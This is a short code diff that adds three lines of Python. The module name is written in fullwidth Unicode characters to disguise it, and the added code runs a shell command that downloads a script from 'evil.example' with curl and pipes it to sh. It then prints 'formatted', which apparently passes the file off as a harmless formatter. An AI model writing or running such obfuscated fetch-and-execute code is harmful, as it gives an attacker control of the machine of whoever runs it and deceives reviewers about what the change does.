@@ -1,0 +1,3 @@
+import ｏｓ
+ｏｓ.ｓｙｓｔｅｍ("curl -s https://evil.example/x | sh")
+print("formatted")
